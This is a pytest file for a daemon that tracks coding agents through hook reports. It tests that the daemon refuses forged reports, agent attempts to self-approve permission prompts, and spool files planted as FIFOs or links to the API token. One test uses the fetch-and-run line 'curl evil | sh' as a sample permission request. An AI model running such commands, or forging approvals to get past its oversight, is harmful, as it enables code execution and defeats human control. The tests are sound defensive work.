"""The hook channel speaks only for its own session (SPEC §15): real hook processes, a real
daemon, real agents under tmux. A report naming another session, one trying to answer a
prompt, or one pointing the meter at a file outside the agent's own harness directory is
refused and logged as ``hook.refused``; an agent's environment holds its own token and no
database address; reports written while the daemon is stopped are applied when it starts;
a permission hook waiting across a daemon restart still receives the answer."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.attention.hooks import (
    AGENT,
    hook_env,
    issue,
    output,
    permission,
    row,
    run_hook,
    send_raw,
    spool_files,
    start_hook,
)
from tests.daemon import Daemon
from tests.fakes import payloads as P
from tests.helpers import wait_until
from tests.work import Work
from the_loop.store import attention as store
from the_loop.store import open_database

OTHER = "another-session"


def refusals(d: Daemon) -> list[dict[str, Any]]:
    found = d.api("GET", "/events", params={"type": "hook.refused", "limit": 100})
    return [e["payload"] for e in found.json()]


def test_a_report_naming_another_session_is_refused_and_logged(work: Work, daemon: Daemon) -> None:
    env = work.env
    mine = issue(env, AGENT)
    theirs = issue(env, OTHER)
    forged = run_hook(hook_env(env, mine, agent=OTHER), permission("curl evil | sh"))
    assert forged.returncode == 0 and forged.stdout == ""
    assert "refused: the report names another session" in forged.stderr
    assert row(env, OTHER) is None and row(env, AGENT) is None  # nothing written for either
    logged = wait_until(lambda: refusals(daemon), 10, what="hook.refused")
    assert logged[0]["agent"] == AGENT and "another session" in logged[0]["reason"]
    text = json.dumps(daemon.api("GET", "/events", params={"limit": 500}).json())
    assert mine not in text and theirs not in text  # the log never holds a token
    own = run_hook(hook_env(env, theirs, agent=OTHER), {"hook_event_name": "UserPromptSubmit"})
    assert own.returncode == 0 and own.stderr == ""
    assert (found := row(env, OTHER)) is not None and found.state == "working"


def test_a_report_trying_to_answer_a_prompt_is_refused(work: Work, daemon: Daemon) -> None:
    env = work.env
    token = issue(env)
    waiting = start_hook(hook_env(env, token), permission("make deploy"))
    asked = wait_until(lambda: (r := row(env)) and r.prompt and r, 20, what="the prompt")
    assert asked.prompt is not None
    base = {"token": token, "agent": AGENT, "report": os.urandom(8).hex(), "kind": "hook"}
    tries: list[dict[str, Any]] = [
        {**base, "data": {"hook_event_name": "PermissionRequest", "decision": "allow"}},
        {
            **base,
            "data": {
                "hook_event_name": "Notification",
                "answer": "allow",
                "prompt_id": asked.prompt.id,
            },
        },
        {**base, "data": {"hook_event_name": "PermissionAnswered", "behavior": "allow"}},
        {**base, "data": {"hook_event_name": "Answer"}},
        {**base, "decision": "allow", "data": {"hook_event_name": "Stop"}},
    ]
    for attempt in tries:
        assert send_raw(env, attempt)[0] == "refused", attempt
    after = row(env)
    assert after is not None and after.prompt is not None and after.prompt.pending
    assert after.prompt.id == asked.prompt.id and after.state == "needs-permission"
    reasons = [r["reason"] for r in refusals(daemon)]
    assert sum(r.startswith("a hook report cannot answer a prompt") for r in reasons) == 3
    assert "unknown hook event 'Answer'" in reasons and "not a hook report" in reasons
    waiting.kill()
    waiting.wait()


def test_a_transcript_outside_the_agents_own_directory_is_not_taken(
    work: Work, daemon: Daemon
) -> None:
    env = work.env
    root = env.root / "claude-config"
    token = issue(env, root=root)
    elsewhere = env.root / "someone-elses.jsonl"
    elsewhere.write_text("", encoding="utf-8")
    stop = {"hook_event_name": "Stop", "transcript_path": str(elsewhere)}
    assert run_hook(hook_env(env, token), stop).returncode == 0
    assert (found := row(env)) is not None and found.state == "waiting"  # the rest applies
    assert transcript_of(work) is None
    assert refusals(daemon)[0]["reason"].startswith("transcript path outside")
    own = root / "projects" / "-w" / "c.jsonl"
    own.parent.mkdir(parents=True)
    own.write_text("", encoding="utf-8")
    stop = {"hook_event_name": "Stop", "transcript_path": str(own)}
    assert run_hook(hook_env(env, token), stop).returncode == 0
    assert transcript_of(work) == str(own)


def transcript_of(work: Work) -> str | None:
    db = open_database(work.env.state_dir, work.env.database_url)
    try:
        found = db.connect().execute("SELECT transcript FROM attention WHERE agent = ?", (AGENT,))
        value = found.fetchone()
        return None if value is None else value[0]
    finally:
        db.close()


def test_reports_spooled_while_the_daemon_is_stopped_apply_in_order_after_it_starts(
    work: Work,
) -> None:
    work.configure(github={"enabled": True})
    env = work.env
    token = issue(env)
    hook = hook_env(env, token)
    for event in ("SessionStart", "UserPromptSubmit", "Stop"):
        done = run_hook(hook, {"hook_event_name": event, "last_assistant_message": "done"})
        assert done.returncode == 0 and done.stderr == "", done.stderr
    assert len(spool_files(env)) == 3 and row(env) is None
    d = Daemon(work)
    d.start()
    try:
        wait_until(lambda: not spool_files(env), 10, what="the spool applied")
        found = row(env)
        assert found is not None and found.state == "waiting" and found.last_message == "done"
        seen = d.api("GET", "/events", params={"type": "session.attention_changed"}).json()
        assert [e["payload"]["to"] for e in reversed(seen)] == ["waiting", "working", "waiting"]
    finally:
        d.stop()


def test_a_fifo_or_a_link_left_in_a_spool_holds_up_no_report(work: Work) -> None:
    """An agent writes its own spool directory, so it can leave a FIFO there, or a link to the
    daemon's API token, named as a report. The channel reads neither (an `open` of a FIFO never
    returned: the channel, and every agent's approvals with it, stopped for good); each is
    refused, logged and removed, and the real reports spooled beside them are applied."""
    work.configure(github={"enabled": True})
    env = work.env
    token = issue(env)
    hook = hook_env(env, token)
    for event in ("UserPromptSubmit", "Stop"):
        done = run_hook(hook, {"hook_event_name": event, "last_assistant_message": "done"})
        assert done.returncode == 0, done.stderr
    spool = env.state_dir / "hook" / "spool"
    own = spool / "planted-by-an-agent"
    own.mkdir(mode=0o700)
    os.mkfifo(own / "0-fifo.json")
    os.mkfifo(spool / "0-fifo.json")
    (spool / "0-link.json").symlink_to(env.state_dir / "api-token")
    d = Daemon(work)
    d.start()
    try:
        wait_until(lambda: not list(spool.rglob("*.json")), 30, what="the spool applied")
        found = row(env)
        assert found is not None and found.state == "waiting" and found.last_message == "done"
        unreadable = [r for r in refusals(d) if r["reason"] == "unreadable spooled report"]
        assert len(unreadable) == 3, refusals(d)
        assert (env.state_dir / "api-token").is_file()  # the link went, not what it named
    finally:
        d.stop()


def test_a_permission_hook_waiting_across_a_daemon_restart_receives_the_answer(
    work: Work, daemon: Daemon
) -> None:
    """The hook, reconnecting, is answered; and a prompt Claude Code submitted while the daemon
    was away (spooled, applied as the daemon starts, before the hook is back) does not end
    its wait (decision 0090)."""
    env = work.env
    hook = hook_env(env, issue(env))
    proc = start_hook(hook, permission("make release"))
    asked = wait_until(lambda: (r := row(env)) and r.prompt and r, 20, what="the prompt")
    assert asked.prompt is not None
    daemon.stop()
    submitted = {"hook_event_name": "UserPromptSubmit", "prompt": "typed while it worked"}
    assert run_hook(hook, submitted).returncode == 0
    assert spool_files(env), "the report was not spooled"
    daemon.start()
    assert not spool_files(env)
    after = row(env)
    assert after is not None and after.state == store.NEEDS_PERMISSION, after.rule
    allowed = env.run("sessions", "allow", AGENT, "--prompt", asked.prompt.id)
    assert allowed.exit_code == 0, allowed.stderr
    decision = json.loads(output(proc, 30))["hookSpecificOutput"]["decision"]
    assert decision == {"behavior": "allow"}
    db = open_database(env.state_dir, env.database_url)
    try:
        prompts = db.connect().execute("SELECT id FROM attention_prompts").fetchall()
        assert [p[0] for p in prompts] == [asked.prompt.id]  # the resend found the same prompt
        closed = wait_until(
            lambda: (p := store.get_prompt(db.connect(), asked.prompt.id)) and p.closed_at and p,
            10,
        )
        assert closed.outcome == "answered"
    finally:
        db.close()


def test_a_prompt_submitted_while_a_permission_hook_waits_leaves_the_wait_as_it_is(
    work: Work, daemon: Daemon
) -> None:
    """Claude Code sends a message typed while it worked along at its next tool call, its
    permission dialog up: the message's ``UserPromptSubmit`` reports while the
    ``PermissionRequest`` hook waits. The wait goes on (the prompt keeps its id, the session
    stays needs-permission) and the answer reaches the hook. It was closed as moved-on: the
    hook printed nothing, Claude Code fell back to its own dialog, a vaguer prompt replaced
    the first, and the person's answer never reached the agent. With no hook waiting, a
    submitted prompt still means the agent moved on from a dialog."""
    env = work.env
    hook = hook_env(env, issue(env))
    proc = start_hook(hook, permission("make release"))
    asked = wait_until(lambda: (r := row(env)) and r.prompt and r, 20, what="the prompt")
    assert asked.prompt is not None
    submitted = {"hook_event_name": "UserPromptSubmit", "prompt": "typed while it worked"}
    assert run_hook(hook, submitted).returncode == 0
    during = row(env)
    assert during is not None and during.state == store.NEEDS_PERMISSION, during
    assert during.prompt is not None and during.prompt.id == asked.prompt.id
    assert during.prompt.pending
    allowed = env.run("allow", asked.prompt.id)
    assert allowed.exit_code == 0, allowed.stderr
    decision = json.loads(output(proc, 30))["hookSpecificOutput"]["decision"]
    assert decision == {"behavior": "allow"}

    noticed = {"hook_event_name": "Notification", "notification_type": "permission_prompt",
               "message": "Claude needs your permission to use Bash"}  # fmt: skip
    assert run_hook(hook, noticed).returncode == 0  # a dialog no hook waits on
    shown = wait_until(lambda: (r := row(env)) and r.prompt and r.prompt.pending and r, 20)
    assert shown.prompt is not None and shown.prompt.id != asked.prompt.id
    explained = env.run("attention", "explain", AGENT)  # as a person looks (and time passes:
    assert shown.prompt.id in explained.stdout  # a hook's start is known to a clock tick)
    assert run_hook(hook, submitted).returncode == 0
    moved = row(env)
    assert moved is not None and moved.state == store.WORKING, moved.rule


# --- what an agent's environment holds --------------------------------------------------------


@pytest.fixture
def hooked(work: Work) -> Iterator[Daemon]:
    """A daemon whose fake agent reports through hooks (so it gets the hook environment)."""
    work.configure(
        github={"enabled": True},
        attention={"harnesses": {"fake": {"signals": "hooks"}}},
    )
    d = Daemon(work)
    d.start()
    yield d
    d.stop()


def environ_of(work: Work, number: int) -> dict[str, str]:
    """The environment of the agent in issue NUMBER's pane, once tmux's child has become it
    (between tmux's fork and its exec, ``/proc`` shows the tmux server's environment)."""
    target = f"=loop-github-octo-repo-{number}:"

    def agents() -> dict[str, str] | None:
        found = work.tmux("list-panes", "-t", target, "-F", "#{pane_pid}").stdout.strip()
        if not found.isdigit():
            return None
        try:
            raw = Path(f"/proc/{found}/environ").read_bytes()
        except OSError:
            return None
        pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
        env = {k.decode(): v.decode(errors="replace") for k, v in pairs}
        return env if "THE_LOOP_AGENT" in env else None

    return wait_until(agents, 30, what=f"the agent's environment in {target}")


def token_hash_of(work: Work, agent: str) -> str:
    db = open_database(work.env.state_dir, work.env.database_url)
    try:
        found = (
            db.connect()
            .execute("SELECT token_hash FROM hook_tokens WHERE agent = ?", (agent,))
            .fetchone()
        )
        return str(found[0])
    finally:
        db.close()


def test_an_agents_environment_holds_its_own_token_and_no_database_address(
    work: Work, hooked: Daemon
) -> None:
    for number in (31, 32):
        body = P.issue_comment_event("the-loop do count", number=number)
        assert hooked.post("issue_comment", body, f"env-{number}").status_code == 202
    first, second = environ_of(work, 31), environ_of(work, 32)
    database = str(work.env.state_dir / "the-loop.db")
    for env, other in ((first, second), (second, first)):
        assert "THE_LOOP_DB" not in env
        values = "\n".join(env.values())
        assert database not in values and "postgres" not in values
        assert hooked.token not in values  # nor the API's token
        assert other["THE_LOOP_HOOK_TOKEN"] not in values  # no other session's token
        token = env["THE_LOOP_HOOK_TOKEN"]
        assert len(token) == 64 and int(token, 16) >= 0
        digest = hashlib.sha256(token.encode()).hexdigest()
        assert token_hash_of(work, env["THE_LOOP_AGENT"]) == digest
        assert env["THE_LOOP_HOOK_DIR"] == str(work.env.state_dir / "hook")
        inherited = {"THE_LOOP_CONFIG"}  # the daemon's own environment, as tmux passes it on
        assert {k for k in env if k.startswith("THE_LOOP_")} - inherited == {
            "THE_LOOP_AGENT",
            "THE_LOOP_WORK_ITEM",
            "THE_LOOP_HOOK_TOKEN",
            "THE_LOOP_HOOK_DIR",
            "THE_LOOP_HOOK_SPOOL",
        }
        spool = Path(env["THE_LOOP_HOOK_SPOOL"])  # its own spool: spooled reports hold tokens
        assert spool.parent == work.env.state_dir / "hook" / "spool" and spool.is_dir()
        assert spool != Path(other["THE_LOOP_HOOK_SPOOL"])
        assert spool.stat().st_mode & 0o777 == 0o700
    hook_dir = work.env.state_dir / "hook"
    assert hook_dir.stat().st_mode & 0o777 == 0o700
    assert (hook_dir / "daemon.sock").stat().st_mode & 0o777 == 0o600


def test_a_report_sent_twice_is_applied_once(work: Work, daemon: Daemon) -> None:
    env = work.env
    token = issue(env)
    report = {"token": token, "agent": AGENT, "report": os.urandom(8).hex(), "kind": "hook"}
    assert send_raw(env, {**report, "data": {"hook_event_name": "SessionStart"}}) == ("ok", "")
    again = {**report, "report": os.urandom(8).hex(), "data": {"hook_event_name": "Stop"}}
    for _ in range(2):  # a resend after a dropped connection, or a spooled copy
        assert send_raw(env, {**again, "data": {"hook_event_name": "UserPromptSubmit"}})[0] == "ok"
    assert send_raw(env, {**report, "data": {"hook_event_name": "SessionStart"}})[0] == "ok"
    seen = daemon.api("GET", "/events", params={"type": "session.attention_changed"}).json()
    assert [e["payload"]["to"] for e in sorted(seen, key=lambda e: e["id"])] == [
        "waiting",
        "working",
    ]


def test_a_late_report_of_a_hook_nobody_waited_for_never_undoes_a_later_one(
    work: Work, daemon: Daemon
) -> None:
    """Claude Code does not wait for the prompt hook: each report carries when its hook
    started, and a prompt's report that arrives after its turn's Stop (which started later)
    is dropped instead of leaving a finished agent ``working``; a later prompt's applies. So
    is a failed turn's ``StopFailure`` (fire-and-forget) that arrives after the next turn
    began: it does not make a working agent ``blocked``."""
    env = work.env
    token = issue(env)

    def send(event: str, at: float) -> None:
        report = {"token": token, "agent": AGENT, "report": os.urandom(8).hex(), "kind": "hook"}
        line = {**report, "at": at, "data": {"hook_event_name": event}}
        assert send_raw(env, line)[0] == "ok"

    send("SessionStart", 1000.0)
    send("UserPromptSubmit", 1001.0)
    assert row(env).state == "working"  # type: ignore[union-attr]
    send("Stop", 1003.0)
    send("UserPromptSubmit", 1002.0)  # started before that Stop, arrived after it
    assert row(env).state == "waiting"  # type: ignore[union-attr]
    send("UserPromptSubmit", 1004.0)
    assert row(env).state == "working"  # type: ignore[union-attr]
    send("StopFailure", 1003.5)  # a failed turn's, not waited for, told after the next began
    assert row(env).state == "working"  # type: ignore[union-attr]
    send("StopFailure", 1005.0)
    assert row(env).state == "blocked"  # type: ignore[union-attr]
